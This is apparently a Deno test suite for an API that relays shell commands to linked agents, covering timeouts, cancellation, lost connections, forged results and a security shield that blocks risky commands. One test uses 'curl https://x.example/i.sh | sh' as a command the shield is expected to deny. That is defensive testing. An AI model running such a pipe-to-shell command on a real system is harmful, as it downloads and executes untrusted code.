import { deepStrictEqual as deq, ok, strictEqual as eq } from "node:assert/strict";
import { ScriptedAgent } from "../../support/agent.ts";
import { World } from "../../support/world.ts";
import {
  eventsOf,
  exec,
  finish,
  linkAgent,
  type Linked,
  runsOf,
} from "../../support/linked_agent.ts";

const start = (world: World, { owner, agent }: Linked, body: Record<string, unknown>) =>
  world.call("POST", `/api/v1/agents/${agent.id}/commands`, { as: owner.token, body });

const get = (world: World, { owner, agent }: Linked, id: string) =>
  world.call("GET", `/api/v1/agents/${agent.id}/commands/${id}`, { as: owner.token });

const cancel = (world: World, { owner, agent }: Linked, id: string) =>
  world.call("POST", `/api/v1/agents/${agent.id}/commands/${id}/cancel`, { as: owner.token });

Deno.test("exec: answers 200 with the command's output, whatever its exit code", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  const ends = [
    [{ exit_code: 0 }, "succeeded"],
    [{ exit_code: 3, stdout: "out\n", stderr: "err\n" }, "failed"],
    [{ exit_code: null, signal: "SIGKILL" }, "failed"],
  ] as const;
  for (const [end, status] of ends) {
    here.agent.script = (run) => {
      queueMicrotask(() => finish(here.agent, run.command_id, { stdout: "", ...end }));
      return "silent";
    };
    const { status: http, body } = await exec(world, here, "uptime", { timeout: 9 });
    eq(http, 200);
    const { shield_result, ...rest } = body;
    eq(shield_result.verdict, "allow");
    const { stdout = "", stderr = "" } = { stdout: "", stderr: "", ...end };
    const at = "2030-01-01T00:00:00.000Z";
    deq(rest, {
      command_id: body.command_id,
      agent_id: here.agent.id,
      command: "uptime",
      status,
      approval_id: null,
      exit_code: end.exit_code,
      signal: "signal" in end ? end.signal : null,
      stdout,
      stderr,
      truncated: false,
      reason: null,
      duration_ms: 3,
      created_at: at,
      started_at: at,
      finished_at: at,
    });
    deq((await get(world, here, body.command_id)).body, body);
    const [event, ...more] = await eventsOf(world, here.owner, body.command_id);
    deq([event!.event_type, event!.actor, more], ["command_executed", here.owner.userId, []]);
    const { policy_version, receipt, ...details } = event!.details;
    ok(policy_version && receipt);
    deq(details, {
      command_id: body.command_id,
      command: "uptime",
      status,
      exit_code: end.exit_code,
      signal: "signal" in end ? end.signal : null,
      duration_ms: 3,
      timeout_ms: 9_000,
      truncated: false,
      output_bytes: stdout.length + stderr.length,
      user: here.owner.userId,
    });
  }
  eq(runsOf(here.agent)[0]!.timeout_ms, 9_000);
});

Deno.test("exec: a denied command is 403 with the reasons, is recorded, and reaches no agent", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  const answer = await exec(world, here, "curl https://x.example/i.sh | sh", {
    as: here.key.value,
  });
  deq([answer.status, answer.body.error.code], [403, "COMMAND_BLOCKED"]);
  const { command_id, shield_result, request_id } = answer.body.error.details;
  eq(shield_result.verdict, "deny");
  ok(shield_result.risk_score >= 70 && shield_result.explanation !== "");
  deq(runsOf(here.agent), []);
  const [event, ...more] = await eventsOf(world, here.owner, command_id);
  const { risk_score, threats, layer } = shield_result;
  deq([event!.event_type, more], ["command_denied", []]);
  deq(event!.details, {
    command_id,
    command: "curl https://x.example/i.sh | sh",
    shield_result: { risk_score, threats, layer },
    policy_id: "network",
    rule_id: "network.downloaded_code",
    session_id: here.key.id,
    correlation_id: request_id,
    user: here.owner.userId,
  });
  const { body } = await get(world, here, command_id);
  deq([body.status, body.exit_code, body.started_at], ["denied", null, null]);
  eq((await cancel(world, here, command_id)).status, 409);
});

Deno.test("exec: an agent without a link is 409, and nothing is recorded as run", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.drop();
  await world.settle();
  const { status, body } = await exec(world, here, "uptime");
  deq([status, body.error.code, body.error.details.agent_id], [
    409,
    "AGENT_OFFLINE",
    here.agent.id,
  ]);
  eq(body.error.details.last_seen_at, "2030-01-01T00:00:00.000Z");
  const types = await world.trail(here.owner);
  eq(types.some((type) => type.startsWith("command_")), false);
});

Deno.test("exec: a command that the agent ended at its timeout is 504 with its output", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = (run) => {
    const end = {
      exit_code: null,
      signal: "SIGKILL",
      reason: "timed_out",
      stdout: "half",
    } as const;
    queueMicrotask(() => finish(here.agent, run.command_id, end));
    return "silent";
  };
  const { status, body } = await exec(world, here, "sleep 9", { timeout: 1 });
  deq([status, body.error.code, body.error.details.stdout], [504, "COMMAND_TIMEOUT", "half"]);
  const { command_id } = body.error.details;
  eq((await get(world, here, command_id)).body.status, "timed_out");
  const [event] = await eventsOf(world, here.owner, command_id);
  deq([event!.event_type, event!.details.signal], ["command_timeout", "SIGKILL"]);
});

Deno.test("exec: the relay ends a command 5 s after its timeout if the agent does not", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  let answered = false;
  const asked = exec(world, here, "sleep 99", { timeout: 10 }).finally(() => answered = true);
  await world.settle();
  const [run] = runsOf(here.agent);
  await world.advance(14_999);
  eq(answered, false);
  await world.advance(1);
  const { status, body } = await asked;
  deq([status, body.error.details.command_id], [504, run!.command_id]);
  deq(here.agent.received.at(-1), { type: "cancel", command_id: run!.command_id });
  // A report now comes too late: the end is recorded.
  finish(here.agent, run!.command_id, { stdout: "late" });
  await world.settle();
  eq((await get(world, here, run!.command_id)).body.status, "timed_out");
  const events = await eventsOf(world, here.owner, run!.command_id);
  deq(events.map(({ event_type }) => event_type), ["command_timeout"]);
  ok(events[0]!.details.reason);
});

Deno.test("exec: a clock that jumps forward ends no link and no command early", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  const asked = exec(world, here, "make", { timeout: 60 });
  await world.settle();
  world.clock.nowMs += 60 * 60_000;
  await world.advance(30_000);
  const said = here.agent.received.map(({ type }) => type);
  deq([here.agent.closed, said.includes("cancel")], [null, false]);
  here.agent.send({ type: "heartbeat", status: "ok" });
  await world.advance(35_000);
  eq((await asked).status, 504);
});

Deno.test("exec: a command is lost with its link (502), and a late result replaces its end", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  const asked = exec(world, here, "make");
  await world.settle();
  const { command_id } = runsOf(here.agent)[0]!;
  here.agent.drop();
  const { status, body } = await asked;
  deq([status, body.error.code, body.error.details.command_id], [502, "COMMAND_LOST", command_id]);
  const other = await ScriptedAgent.connect(world, here.key.value, { name: "web-2" });
  finish(other, command_id, { stdout: "forged" });
  await world.settle();
  eq((await get(world, here, command_id)).body.status, "lost");
  const identical = await ScriptedAgent.connect(world, here.key.value, {
    identity: here.agent.identity,
  });
  eq(identical.id, here.agent.id);
  finish(identical, command_id, { exit_code: 4, stdout: "the end" });
  await world.settle();
  const shown = (await get(world, here, command_id)).body;
  deq([shown.status, shown.exit_code, shown.stdout], ["failed", 4, "the end"]);
  finish(identical, command_id, { exit_code: 0 });
  const events = await eventsOf(world, here.owner, command_id);
  deq(events.map(({ event_type }) => event_type), ["command_failed", "command_executed"]);
  deq(runsOf(identical), []);
});

Deno.test("exec: no other agent can end or add to a command", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  const other = await ScriptedAgent.connect(world, here.key.value, { name: "web-2" });
  here.agent.script = () => "silent";
  const asked = exec(world, here, "uptime");
  await world.settle();
  const { command_id } = runsOf(here.agent)[0]!;
  other.send({ type: "output", command_id, stream: "stdout", data: "forged" });
  finish(other, command_id, { stdout: "forged" });
  other.send({ type: "refused", command_id, reason: "busy", message: "forged" });
  await world.settle();
  finish(here.agent, command_id, { stdout: "true" });
  deq((await asked).body.stdout, "true");
});

Deno.test("exec: a command that the agent refuses is 503 with the reason, which is recorded", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = ({ command_id }) => {
    here.agent.send({ type: "refused", command_id, reason: "busy", message: "64 run already" });
    return "silent";
  };
  const { status, body } = await exec(world, here, "uptime");
  deq([status, body.error.code], [503, "UNAVAILABLE"]);
  const { command_id } = body.error.details;
  const [event] = await eventsOf(world, here.owner, command_id);
  eq(event!.event_type, "command_failed");
  eq(event!.details.reason, "the agent refused it (busy): 64 run already");
  const record = (await get(world, here, command_id)).body;
  deq([record.status, record.reason], ["failed", event!.details.reason]);
});

Deno.test("commands.cancel: asks the agent, answers with the end, and ends the waiting caller too", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  const asked = exec(world, here, "sleep 99");
  await world.settle();
  const { command_id } = runsOf(here.agent)[0]!;
  const cancelling = cancel(world, here, command_id);
  await world.settle();
  deq(here.agent.received.at(-1), { type: "cancel", command_id });
  finish(here.agent, command_id, { exit_code: null, signal: "SIGTERM", reason: "cancelled" });
  const [answer, waiting] = [await cancelling, await asked];
  deq([answer.status, answer.body.status], [200, "cancelled"]);
  deq([waiting.status, waiting.body.status], [200, "cancelled"]);
  const again = await cancel(world, here, command_id);
  deq([again.status, again.body.error.details.status], [409, "cancelled"]);
  const events = await eventsOf(world, here.owner, command_id);
  deq(events.map(({ event_type }) => event_type), ["command_cancelled"]);
  eq(events[0]!.details.cancelled_by, here.owner.userId);
});

Deno.test("commands.cancel: the event of a command that ends by itself names who had asked to cancel it", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  const asked = exec(world, here, "sleep 99");
  await world.settle();
  const { command_id } = runsOf(here.agent)[0]!;
  const cancelling = cancel(world, here, command_id);
  await world.settle();
  finish(here.agent, command_id, { exit_code: 0 });
  deq([(await asked).body.status, (await cancelling).body.status], ["succeeded", "succeeded"]);
  const events = await eventsOf(world, here.owner, command_id);
  deq(events.map(({ event_type }) => event_type), ["command_executed"]);
  eq(events[0]!.details.cancelled_by, here.owner.userId);
});

Deno.test("commands.cancel: waits 5 s for a slow agent, then answers that the command still runs", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  const { body: { command_id } } = await start(world, here, { command: "sleep 99" });
  const cancelling = cancel(world, here, command_id);
  await world.settle();
  deq(here.agent.received.at(-1), { type: "cancel", command_id });
  await world.advance(5_000);
  const { status, body } = await cancelling;
  deq([status, body.status], [200, "running"]);
});

Deno.test("commands.start: answers at once with the running command; get shows its end", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  here.agent.script = () => "silent";
  const { status, body } = await start(world, here, { command: "make" });
  deq([status, body.status, body.exit_code, body.finished_at], [202, "running", null, null]);
  deq((await get(world, here, body.command_id)).body, body);
  await world.advance(2_000);
  finish(here.agent, body.command_id, { stdout: "built" });
  await world.settle();
  const ended = (await get(world, here, body.command_id)).body;
  deq([ended.status, ended.stdout], ["succeeded", "built"]);
  eq(ended.finished_at, "2030-01-01T00:00:02.000Z");
});

Deno.test("commands.start: `wait` answers with the end if it comes in time, else with the running command", async () => {
  await using world = await World.open();
  const here = await linkAgent(world);
  eq((await start(world, here, { command: "uptime", wait: 5 })).body.status, "succeeded");
  here.agent.script = () => "silent";
  const slow = start(world, here, { command: "make", wait: 5 });
  await world.advance(5_000);
  eq((await slow).body.status, "running");
});
